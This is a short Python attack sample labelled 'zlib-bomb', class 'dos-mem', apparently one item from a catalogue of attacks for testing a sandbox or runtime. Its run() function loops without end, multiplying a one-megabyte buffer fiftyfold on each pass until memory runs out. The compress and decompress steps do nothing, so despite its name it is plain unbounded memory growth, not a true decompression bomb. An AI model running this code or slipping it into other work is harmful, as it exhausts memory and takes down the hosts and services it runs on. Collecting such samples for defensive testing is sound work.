# attack: zlib-bomb
# layer: language
# class: dos-mem
# success: a few bytes become gigabytes
import zlib
def run():
    data = bytes(1000000)
    while True:
        data = zlib.decompress(zlib.compress(data)) * 50
